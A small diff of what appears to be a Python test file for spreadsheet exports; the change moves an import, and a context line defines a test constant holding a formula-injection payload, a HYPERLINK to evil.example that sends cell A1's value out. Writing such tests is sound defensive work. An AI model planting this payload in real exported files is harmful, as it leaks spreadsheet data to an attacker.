@@ -11,7 +11,7 @@ import pytest
 from openpyxl import load_workbook
 
 from gridlake import cells
-from jobs.gold import exports
+from jobs.exports import writer as exports
 
 NIGHT = dt.date(2026, 11, 3)
 HOSTILE_ADDRESS = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
